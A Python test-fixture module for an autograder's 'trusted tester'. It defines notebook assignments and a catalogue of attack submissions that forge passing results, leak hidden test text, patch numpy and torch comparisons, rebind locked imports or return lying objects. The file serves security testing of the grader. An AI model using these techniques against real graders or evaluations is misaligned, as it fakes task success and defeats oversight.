"""The "trusted" assignment and the attacks of issue 16 on a verdict decided next to student code.

Before the trusted tester, each test ran in a fork of the notebook process: student code could reach the
harness's objects through the call stack (the channel key, the events pipe, the tamper snapshot, the test's own
frame and source) and speak for it. Every submission here answers wrongly and then tries one of those ways to
get the points or the hidden text anyway; `tests/graders/test_trusted_tester.py` grades each one and checks the
outcome (each case failed, that is forged a pass or leaked hidden text, on the engine of 2026-12-07 before the
trusted tester). The honest and wrong controls show the assignment itself grades as expected.

Every hidden line carries the marker ``HIDDEN-TEXT`` so a leak is easy to recognise, also after decoding.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .notebooks import Assignment, locked, md, solution, test

MARK = "HIDDEN-TEXT"

SETUP = "import numpy as np\nfrom numpy.linalg import norm\n"

SOLUTION = '''def double(x):
    """Return the values of x times two, as a float array."""
    ### BEGIN SOLUTION
    return np.asarray(x, dtype=float) * 2
    ### END SOLUTION


def total(values):
    """Return the sum of the values as a float."""
    ### BEGIN SOLUTION
    return float(sum(values))
    ### END SOLUTION
'''

ASSIGNMENT = Assignment(
    name="trusted",
    toml="[limits]\ncell_timeout_s = 8\ntotal_timeout_s = 120\n",
    notebooks={
        "trusted": [
            md("# Trusted tester\nTwo small functions."),
            locked("setup", SETUP),
            solution("answers", SOLUTION),
            test(
                "test_double",
                2,
                "d = double([1.0, 2.0])\nassert len(d) == 2\n### BEGIN HIDDEN TESTS\n"
                f"assert np.allclose(double([0.5, 1.5, 2.5]), [1.0, 3.0, 5.0])  # {MARK} double\n"
                "### END HIDDEN TESTS\n",
            ),
            test(
                "test_norm",
                1,
                "### BEGIN HIDDEN TESTS\n"
                f"assert norm(double(np.ones(4)) - 2.0) < 1e-12  # {MARK} norm\n"
                "### END HIDDEN TESTS\n",
            ),
            test(
                "test_total",
                1,
                "t = total([1.0])\n### BEGIN HIDDEN TESTS\n"
                f"assert abs(total([1.0, 2.0, 3.5]) - 6.5) < 1e-12  # {MARK} total\n"
                "### END HIDDEN TESTS\n",
            ),
            test(
                "test_last",
                1,
                "### BEGIN HIDDEN TESTS\n"
                f"v = double(np.arange(3.0))  # {MARK} last\n"
                "assert np.allclose(v, [0.0, 2.0, 4.0])\n"
                f"assert isinstance(v, np.ndarray) and v.dtype == np.float64  # {MARK} type\n"
                "### END HIDDEN TESTS\n",
            ),
        ]
    },
)

HONEST = """def double(x):
    return np.asarray(x, dtype=float) * 2


def total(values):
    return float(sum(values))
"""

WRONG = """def double(x):
    return np.zeros(len(np.asarray(x)))


def total(values):
    return 0.0
"""

# Finds the harness's object whose class is named `kind` by walking the call stack (self of each frame).
FIND = """
def _harness_object(kind):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        candidate = frame.f_locals.get("self")
        if type(candidate).__name__ == kind:
            return candidate
        frame = frame.f_back
    return None
"""

# Critical: take the channel key and the events pipe from the notebook object, ask for every test's source,
# report "passed" for each and exit.
STACK_WALK_FORGE = (
    WRONG
    + FIND
    + """

import os, sys
_nb = _harness_object("Notebook")
_stolen = []
if _nb is not None:
    _wire = sys.modules.get("grader_harness.wire")
    _frame = sys._getframe()
    while _frame is not None and _frame.f_code.co_name != "run_cell":
        _frame = _frame.f_back
    if _frame is not None:  # end this cell first, so that tests may start
        _nb.emit({"t": "cell_end", "i": _frame.f_locals["index"], "status": "ok", "count": 1, "outputs": []})
    for _cell in _nb.job["cells"]:
        if _cell["kind"] != "test":
            continue
        _i = _cell["i"]
        _nb.emit({"t": "test_start", "i": _i})
        _nb.emit({"t": "need_source", "i": _i})
        _fd = getattr(_nb, "job_fd", None)
        if _fd is not None and _wire is not None:
            try:
                _stolen.append(_wire.read_frame(_fd, _nb.h.key)["source"])
            except Exception:
                pass
        _nb.emit({"t": "test_result", "i": _i, "outcome": "passed", "partial": None, "stderr": False,
                  "message": "", "error": None, "outputs": [{"output_type": "stream", "name": "stdout",
                  "text": "".join(_stolen)}], "flags": []})
        _nb.emit({"t": "test_end", "i": _i, "outcome": "exited", "status": 0})
    _nb.emit({"t": "done"})
    os._exit(0)
"""
)

# High: swap the implementation's code for code compiled under numpy's own file name, during the test.
LIBRARY_CODE_SWAP = """def double(x):
    import numpy
    namespace = {}
    text = "def _f(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):\\n    return True\\n"
    exec(compile(text, numpy.__file__, "exec"), namespace)
    numpy.allclose._implementation.__code__ = namespace["_f"].__code__
    return np.zeros(len(np.asarray(x)))


def total(values):
    return 0.0
"""

# High: write the patched function into the tamper snapshot itself, so restoring it restores the patch.
SNAPSHOT_WRITE = (
    WRONG
    + FIND
    + """

import numpy


def _yes(*args, **kwargs):
    return True


_nb = _harness_object("Notebook")
_snap = getattr(getattr(_nb, "h", None), "snapshot", None)
for _name, _module, _saved in getattr(_snap, "modules", []):
    if _name == "numpy" and "allclose" in _saved:
        _saved["allclose"] = _yes
numpy.allclose = _yes
np.allclose = _yes
"""
)

# High: rebind a name the locked setup cell imported.
LOCKED_REBIND = WRONG + "\n\ndef norm(*args, **kwargs):\n    return 0.0\n"

# Medium: read the calling test's source through its frame, keep it (encoded), and raise it later from a
# visible line, where messages are shown.
CALLER_SOURCE = """def double(x):
    import base64, linecache, sys
    frame = sys._getframe(1)
    while frame is not None:
        lines = linecache.getlines(frame.f_code.co_filename)
        if any("HIDDEN" in line for line in lines):
            with open("/tmp/.kept", "a") as fh:
                fh.write(base64.b64encode("".join(lines).encode()).decode() + "\\n")
        frame = frame.f_back
    return np.zeros(len(np.asarray(x)))


def total(values):
    try:
        kept = open("/tmp/.kept").read()
    except OSError:
        kept = ""
    raise ValueError("KEPT:" + kept.replace("\\n", "|"))
"""

# A forged result sent from a function the test calls (the test process's own object), then exit.
FORGED_FROM_CALL = (
    FIND
    + """

def _forge():
    import os
    test = _harness_object("Test")
    if test is not None:
        test.nb.emit({"t": "test_result", "i": test.cell["i"], "outcome": "passed", "partial": None,
                      "stderr": False, "message": "", "error": None, "outputs": [], "flags": []})
        os._exit(0)
    notebook = _harness_object("Notebook")
    serving = _harness_object("Peer")
    if notebook is not None and serving is not None:  # called by a test through the notebook process
        for cell in notebook.job["cells"]:
            if cell["kind"] == "test":
                notebook.emit({"t": "test_result", "i": cell["i"], "outcome": "passed", "partial": None,
                               "stderr": False, "message": "", "error": None, "outputs": [], "flags": []})
        os._exit(0)


def double(x):
    _forge()
    return np.zeros(len(np.asarray(x)))


def total(values):
    _forge()
    return 0.0
"""
)

# A trace function set by the called function jumps the test's frame over its assert line, then removes itself.
SETTRACE_JUMP = """def double(x):
    import sys
    caller = sys._getframe(1)

    def tracer(frame, event, arg):
        if frame is caller and event == "line":
            frame.f_trace = None
            sys.settrace(None)
            try:
                frame.f_lineno = frame.f_lineno + 1
            except Exception:
                pass
            return None
        return tracer

    caller.f_trace = tracer
    caller.f_trace_lines = True
    sys.settrace(tracer)
    return np.zeros(len(np.asarray(x)))


def total(values):
    return 0.0
"""

# weakref.finalize and at-fork callbacks that call the harness's own code to report a pass.
HOOKS_CALL_HARNESS = (
    WRONG
    + FIND
    + """

import gc, os, sys, weakref


def _report(*unused):
    wire = sys.modules.get("grader_harness.wire")
    for kind in ("Test", "Notebook"):
        frame = sys._getframe(0)
        while frame is not None:
            obj = frame.f_locals.get("self")
            if type(obj).__name__ == kind:
                notebook = obj.nb if kind == "Test" else obj
                cell = frame.f_locals.get("cell") or getattr(obj, "cell", None)
                if cell is None or wire is None:
                    break
                notebook.emit({"t": "need_source", "i": cell["i"]})
                try:
                    wire.read_frame(getattr(notebook, "job_fd", -1), notebook.h.key)
                except Exception:
                    pass
                notebook.emit({"t": "test_result", "i": cell["i"], "outcome": "passed", "partial": None,
                               "stderr": False, "message": "", "error": None, "outputs": [], "flags": []})
                os._exit(0)
            frame = frame.f_back


os.register_at_fork(after_in_child=_report)


class _Cycle:
    pass


def _plant():
    first, second = _Cycle(), _Cycle()
    first.other, second.other = second, first
    weakref.finalize(first, _report)


_plant()
gc.disable()
"""
)

# A student object whose __eq__, __bool__, __array__ and __float__ lie: __array__ hands back the expected
# values it finds in the comparing function's frame.
LYING_OBJECT = """class _Liar:
    def __array__(self, dtype=None, copy=None):
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            if frame.f_code.co_name in ("isclose", "allclose") and "b" in frame.f_locals:
                return np.asarray(frame.f_locals["b"], dtype=float)
            frame = frame.f_back
        return np.zeros(3)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return 6.5

    def __len__(self):
        return 2

    def __sub__(self, other):
        return 0.0

    def __rsub__(self, other):
        return 0.0

    def __abs__(self):
        return 0.0

    def __lt__(self, other):
        return True

    dtype = np.dtype("float64")


def double(x):
    return _Liar()


def total(values):
    return _Liar()
"""

# A class that claims to be a library class: __class__, a metaclass __instancecheck__, a module named like
# a library's.
CLAIMS_LIBRARY_CLASS = (
    LYING_OBJECT
    + """

import sys, types


class _Meta(type):
    def __instancecheck__(cls, instance):
        return True


class ndarray(_Liar, metaclass=_Meta):
    __class__ = property(lambda self: np.ndarray)


ndarray.__module__ = "numpy"
ndarray.__qualname__ = "ndarray"
_fake = types.ModuleType("numpy.linalg")
_fake.norm = lambda *args, **kwargs: 0.0


def double(x):
    return ndarray()
"""
)

# Values that confuse a proxy: an ndarray subclass, a list subclass and a dict subclass whose own methods lie.
CONFUSING_CONTAINERS = """class _Array(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(4)

    def __eq__(self, other):
        return np.ones(3, dtype=bool)


class _List(list):
    def __iter__(self):
        return iter([0.5 * 2, 1.5 * 2, 2.5 * 2])

    def __len__(self):
        return 2


class _Dict(dict):
    def items(self):
        return [("x", 1.0)]


def double(x):
    n = len(np.asarray(x))
    return np.zeros(n).view(_Array)


def total(values):
    return _List([0.0])
"""


@dataclass(frozen=True)
class TrustedCase:
    name: str
    vector: str
    answers: str
    zero: tuple[str, ...] = ("*",)
    leak_check: bool = False
    honest: bool = False
    finding: str = ""
    notes: dict[str, str] = field(default_factory=dict)


CASES: list[TrustedCase] = [
    TrustedCase("trusted_honest", "control: the instructor's answers", HONEST, zero=(), honest=True),
    TrustedCase("trusted_wrong", "control: wrong answers, no attack", WRONG),
    TrustedCase(
        "stack_walk_forge",
        "the notebook process takes the channel key and events pipe from the harness, asks for every hidden "
        "source, reports passed for each test and exits",
        STACK_WALK_FORGE,
        finding="critical: the notebook process can speak for the harness",
    ),
    TrustedCase(
        "library_code_swap",
        "np.allclose's implementation gets code compiled under numpy's own file name, during the test",
        LIBRARY_CODE_SWAP,
        finding="high: re-patching disguised as library code",
    ),
    TrustedCase(
        "snapshot_write",
        "the patched np.allclose is written into the tamper snapshot found through the call stack",
        SNAPSHOT_WRITE,
        finding="high: the tamper snapshot is reachable and writable",
    ),
    TrustedCase(
        "locked_rebind",
        "the name `norm`, imported by the locked setup cell, is rebound by the student",
        LOCKED_REBIND,
        finding="high: names imported by locked cells can be rebound",
    ),
    TrustedCase(
        "caller_source",
        "a called function reads the test's source through its caller's frame and raises it, encoded, from "
        "a visible line of a later test",
        CALLER_SOURCE,
        leak_check=True,
        finding="medium: hidden test source through the caller's frame",
    ),
    TrustedCase(
        "forged_from_call",
        "a function the test calls reports passed for its test and exits",
        FORGED_FROM_CALL,
    ),
    TrustedCase(
        "settrace_jump", "a trace function moves the test frame's f_lineno over the assert", SETTRACE_JUMP
    ),
    TrustedCase(
        "hooks_call_harness",
        "weakref.finalize and os.register_at_fork callbacks report a pass",
        HOOKS_CALL_HARNESS,
    ),
    TrustedCase("lying_object", "__eq__, __bool__, __array__, __float__ that lie", LYING_OBJECT),
    TrustedCase(
        "claims_library_class",
        "__class__, __instancecheck__ and a module named like numpy's",
        CLAIMS_LIBRARY_CLASS,
    ),
    TrustedCase(
        "confusing_containers",
        "an ndarray subclass, a list subclass and a dict subclass that lie",
        CONFUSING_CONTAINERS,
    ),
]


# ---------------------------------------------------------------------------------------------------------------
# The "trusted_lib" assignment: a torch network, a tensor and a fit checked against a class the locked setup cell
# imports (as hw1 checks knn_regress against scikit-learn's KNeighborsRegressor). Its attacks return objects that
# confuse a proxy or claim to be library objects, or rebind the locked cell's class.

LIB_SETUP = (
    "import numpy as np\nimport torch\nfrom torch import nn\nfrom numpy.polynomial import Polynomial\n"
)

LIB_SOLUTION = '''def make_net():
    """A network 3 -> 4 -> 1: Linear, ReLU, Dropout(0.5), Linear."""
    ### BEGIN SOLUTION
    return nn.Sequential(nn.Linear(3, 4), nn.ReLU(), nn.Dropout(0.5), nn.Linear(4, 1))
    ### END SOLUTION


def scale(t):
    """Return the tensor t times two."""
    ### BEGIN SOLUTION
    return t * 2
    ### END SOLUTION


def fit_line(x, y):
    """The least-squares line of y on x, as the array [intercept, slope]."""
    ### BEGIN SOLUTION
    slope, intercept = np.polyfit(x, y, 1)
    return np.array([intercept, slope])
    ### END SOLUTION
'''

LIB_ASSIGNMENT = Assignment(
    name="trusted_lib",
    toml="[limits]\ncell_timeout_s = 20\ntotal_timeout_s = 120\n",
    notebooks={
        "trusted_lib": [
            md("# Trusted tester and library objects\nA network, a tensor and a line."),
            locked("setup", LIB_SETUP),
            solution("answers", LIB_SOLUTION),
            test(
                "test_net",
                2,
                "net = make_net()\n### BEGIN HIDDEN TESTS\n"
                f"assert isinstance(net, nn.Sequential) and isinstance(net[2], nn.Dropout)  # {MARK} net\n"
                "shapes = {k: tuple(v.shape) for k, v in net.state_dict().items()}\n"
                'assert shapes == {"0.weight": (4, 3), "0.bias": (4,), "3.weight": (1, 4), "3.bias": (1,)}, shapes\n'
                "### END HIDDEN TESTS\n",
            ),
            test(
                "test_scale",
                1,
                "### BEGIN HIDDEN TESTS\n"
                f"assert torch.equal(scale(torch.ones(3)), torch.full((3,), 2.0))  # {MARK} scale\n"
                "assert bool((scale(torch.arange(3.0)) == torch.tensor([0.0, 2.0, 4.0])).all())\n"
                "### END HIDDEN TESTS\n",
            ),
            test(
                "test_line",
                2,
                "### BEGIN HIDDEN TESTS\n"
                "x_t = np.array([0.0, 1.0, 2.0, 4.0])\n"
                "y_t = 1.0 + 3.0 * x_t + np.array([0.1, -0.1, 0.05, -0.05])\n"
                f"assert np.allclose(fit_line(x_t, y_t), Polynomial.fit(x_t, y_t, 1).convert().coef)  # {MARK}\n"
                "### END HIDDEN TESTS\n",
            ),
        ]
    },
)

LIB_HONEST = """def make_net():
    return nn.Sequential(nn.Linear(3, 4), nn.ReLU(), nn.Dropout(0.5), nn.Linear(4, 1))


def scale(t):
    return t * 2


def fit_line(x, y):
    slope, intercept = np.polyfit(x, y, 1)
    return np.array([intercept, slope])
"""

LIB_WRONG = """def make_net():
    return nn.Sequential(nn.Linear(3, 1))


def scale(t):
    return t


def fit_line(x, y):
    return np.zeros(2)
"""

# A network of the student's class whose state_dict, indexing and __class__ describe the expected network.
STATE_DICT_LIES = (
    LIB_WRONG
    + """
import collections


class _Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.only = nn.Linear(3, 1)

    __class__ = property(lambda self: nn.Sequential)

    def __getitem__(self, index):
        return nn.Dropout(0.5)

    def __len__(self):
        return 4

    def state_dict(self, *args, **kwargs):
        shapes = {"0.weight": (4, 3), "0.bias": (4,), "3.weight": (1, 4), "3.bias": (1,)}
        return collections.OrderedDict((k, torch.zeros(s)) for k, s in shapes.items())


def make_net():
    return _Net()
"""
)

# The same class, named like torch.nn's Sequential (its module and qualified name claim to be torch's).
NAMED_LIKE_TORCH_NN = (
    STATE_DICT_LIES
    + """
_Net.__module__ = "torch.nn.modules.container"
_Net.__qualname__ = _Net.__name__ = "Sequential"
"""
)

# A tensor subclass whose __torch_function__ makes every comparison say yes.
TENSOR_SUBCLASS = (
    LIB_WRONG
    + """
class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("eq", "__eq__", "isclose"):
            return torch.ones(3, dtype=torch.bool)
        if name == "all":
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})


def scale(t):
    return torch.zeros(3).as_subclass(_Agreeable)
"""
)

# hw1's attack: the class the locked setup cell imported is rebound to one that answers with the student's own
# (wrong) function, so that the test's reference value agrees with it.
LOCKED_CLASS_REBIND = (
    LIB_WRONG
    + """
class _Fit:
    def __init__(self, x, y):
        self.coef = fit_line(x, y)

    def convert(self):
        return self


class Polynomial:
    @staticmethod
    def fit(x, y, deg):
        return _Fit(x, y)
"""
)

LIB_CASES: list[TrustedCase] = [
    TrustedCase("lib_honest", "control: the instructor's answers", LIB_HONEST, zero=(), honest=True),
    TrustedCase("lib_wrong", "control: wrong answers, no attack", LIB_WRONG),
    TrustedCase(
        "state_dict_lies",
        "a network of the student's class whose state_dict, indexing and __class__ describe the expected one",
        STATE_DICT_LIES,
    ),
    TrustedCase(
        "named_like_torch_nn",
        "that network's class named torch.nn.modules.container.Sequential",
        NAMED_LIKE_TORCH_NN,
    ),
    TrustedCase(
        "tensor_subclass",
        "a tensor subclass whose __torch_function__ makes every comparison true",
        TENSOR_SUBCLASS,
    ),
    TrustedCase(
        "locked_class_rebind",
        "the class Polynomial, imported by the locked setup cell, rebound to one that answers with fit_line",
        LOCKED_CLASS_REBIND,
        finding="high: names imported by locked cells can be rebound (hw1's KNeighborsRegressor)",
    ),
]
